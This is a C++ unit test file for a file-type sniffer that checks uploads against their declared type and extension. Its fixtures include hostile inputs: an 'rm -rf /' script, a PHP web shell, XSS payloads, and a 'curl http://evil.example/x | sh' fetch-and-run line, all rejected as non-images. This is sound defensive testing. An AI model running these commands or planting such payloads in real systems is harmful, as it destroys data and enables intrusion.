#include "core/content_sniff.hpp"

#include <gtest/gtest.h>

#include <string_view>

namespace app::content {
namespace {

using namespace std::string_view_literals;

// A complete 1×1 RGB PNG (IHDR, IDAT, IEND with their CRCs).
constexpr std::string_view kPng =
    "\x89\x50\x4E\x47\x0D\x0A\x1A\x0A\x00\x00\x00\x0D\x49\x48\x44\x52\x00\x00\x00\x01"
    "\x00\x00\x00\x01\x08\x02\x00\x00\x00\x90\x77\x53\xDE\x00\x00\x00\x0C\x49\x44\x41"
    "\x54\x78\x9C\x63\xF8\xCF\xC0\x00\x00\x03\x01\x01\x00\xC9\xFE\x92\xEF\x00\x00\x00"
    "\x00\x49\x45\x4E\x44\xAE\x42\x60\x82"sv;
// The first 40 bytes of a real JFIF file: SOI, APP0 "JFIF", the start of a quantisation table.
constexpr std::string_view kJpeg =
    "\xFF\xD8\xFF\xE0\x00\x10\x4A\x46\x49\x46\x00\x01\x01\x01\x00\x01\x00\x01\x00\x00"
    "\xFF\xDB\x00\x43\x00\x03\x02\x02\x02\x02\x02\x03\x02\x02\x02\x03\x03\x03\x03\x04"sv;
// The first 40 bytes of a real extended WebP (RIFF size 424, VP8X, ALPH).
constexpr std::string_view kWebp =
    "\x52\x49\x46\x46\xA8\x01\x00\x00\x57\x45\x42\x50\x56\x50\x38\x58\x0A\x00\x00\x00"
    "\x10\x00\x00\x00\x0F\x00\x00\x0F\x00\x00\x41\x4C\x50\x48\xC3\x00\x00\x00\x01\x27"sv;
// A complete 1×1 GIF.
constexpr std::string_view kGif =
    "GIF89a\x01\x00\x01\x00\x80\x00\x00\xFF\xFF\xFF\x00\x00\x00!\xF9\x04\x01\x00\x00\x00\x00"
    ",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02\x44\x01\x00;"sv;
// The first 32 bytes of an iPhone HEIC: the ftyp box, major brand "heic", compatible mif1, MiHE, miaf, heic.
constexpr std::string_view kHeic =
    "\x00\x00\x00\x24\x66\x74\x79\x70\x68\x65\x69\x63\x00\x00\x00\x00\x6D\x69\x66\x31"
    "\x4D\x69\x48\x45\x6D\x69\x61\x66\x68\x65\x69\x63"sv;
constexpr std::string_view kPdf = "%PDF-1.7\n%\xE2\xE3\xCF\xD3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"sv;

TEST(ContentSniffTest, RecognisesRealHeaders) {
    EXPECT_EQ(Sniff(kPng), FileType::kPng);
    EXPECT_EQ(Sniff(kJpeg), FileType::kJpeg);
    EXPECT_EQ(Sniff(kWebp), FileType::kWebp);
    EXPECT_EQ(Sniff(kGif), FileType::kGif);
    EXPECT_EQ(Sniff("GIF87a\x01\x00\x01\x00"sv), FileType::kGif);
    EXPECT_EQ(Sniff(kPdf), FileType::kPdf);
    EXPECT_EQ(Sniff(kHeic), FileType::kHeic);
    EXPECT_EQ(MediaType(Sniff(kHeic)), "image/heic");
    EXPECT_TRUE(DeclaredTypeAgrees(FileType::kHeic, "image/heic", "IMG_0001.HEIC"));
    EXPECT_FALSE(DeclaredTypeAgrees(FileType::kHeic, "image/jpeg", "IMG_0001.HEIC"));
    // Other ISO-BMFF files are not HEIC: an MP4 video, an AVIF.
    EXPECT_EQ(Sniff("\x00\x00\x00\x18"
                    "ftypisom\x00\x00\x02\x00"sv),
              FileType::kUnknown);
    EXPECT_EQ(Sniff("\x00\x00\x00\x18"
                    "ftypavif\x00\x00\x00\x00"sv),
              FileType::kUnknown);
    EXPECT_EQ(MediaType(Sniff(kWebp)), "image/webp");
    EXPECT_EQ(MediaType(FileType::kUnknown), "application/octet-stream");
}

TEST(ContentSniffTest, ScriptsPagesTruncatedAndEmptyContentAreUnknown) {
    EXPECT_EQ(Sniff("#!/bin/sh\nrm -rf /\n"), FileType::kUnknown);
    EXPECT_EQ(Sniff("<!DOCTYPE html><script>alert(1)</script>"), FileType::kUnknown);
    EXPECT_EQ(Sniff("<?php system($_GET['c']); ?>"), FileType::kUnknown);
    EXPECT_EQ(Sniff(""), FileType::kUnknown);
    EXPECT_EQ(Sniff(kPng.substr(0, 7)), FileType::kUnknown);  // signature cut short
    EXPECT_EQ(Sniff("\xFF\xD8"sv), FileType::kUnknown);
    EXPECT_EQ(Sniff("RIFF\x10\x00\x00\x00WAVEfmt "sv), FileType::kUnknown);  // RIFF but audio
    EXPECT_EQ(Sniff("RIFF\x10\x00\x00\x00WEB"sv), FileType::kUnknown);
    EXPECT_EQ(Sniff(" %PDF-1.7"), FileType::kUnknown);  // only at offset 0
    EXPECT_EQ(Sniff("<html>%PDF-1.7"), FileType::kUnknown);
}

TEST(ContentSniffTest, DeclaredTypeAndExtensionMustAgreeWithTheContent) {
    EXPECT_TRUE(DeclaredTypeAgrees(Sniff(kJpeg), "image/jpeg", "现场照片.JPG"));
    EXPECT_TRUE(DeclaredTypeAgrees(Sniff(kJpeg), "IMAGE/JPEG; charset=binary", "a.jpeg"));
    EXPECT_TRUE(DeclaredTypeAgrees(Sniff(kPng), "image/png", "a.png"));
    EXPECT_TRUE(DeclaredTypeAgrees(Sniff(kPdf), "application/pdf", "整改通知书.pdf"));
    // Nothing declared: octet-stream, no type, a name without an extension.
    EXPECT_TRUE(DeclaredTypeAgrees(Sniff(kWebp), "application/octet-stream", "photo.webp"));
    EXPECT_TRUE(DeclaredTypeAgrees(Sniff(kGif), "", "blob"));

    EXPECT_FALSE(DeclaredTypeAgrees(Sniff(kPng), "image/png", "a.jpg"));   // extension says JPEG
    EXPECT_FALSE(DeclaredTypeAgrees(Sniff(kPng), "image/jpeg", "a.png"));  // type says JPEG
    EXPECT_FALSE(DeclaredTypeAgrees(Sniff(kJpeg), "image/jpeg", "a.jpg.html"));
    EXPECT_FALSE(DeclaredTypeAgrees(Sniff(kJpeg), "image/jpeg", "a."));
    EXPECT_FALSE(DeclaredTypeAgrees(Sniff(kJpeg), "text/html", "a.jpg"));
}

TEST(ContentSniffTest, AScriptOrPageRenamedJpgNeverAgrees) {
    const std::string_view script = "#!/bin/bash\ncurl http://evil.example/x | sh\n";
    const std::string_view page = "<html><body onload=\"alert(document.cookie)\"></body></html>";
    EXPECT_EQ(Sniff(script), FileType::kUnknown);
    EXPECT_FALSE(DeclaredTypeAgrees(Sniff(script), "image/jpeg", "photo.jpg"));
    EXPECT_FALSE(DeclaredTypeAgrees(Sniff(page), "image/jpeg", "photo.jpg"));
    EXPECT_FALSE(DeclaredTypeAgrees(Sniff(page), "", "blob"));
}

}  // namespace
}  // namespace app::content
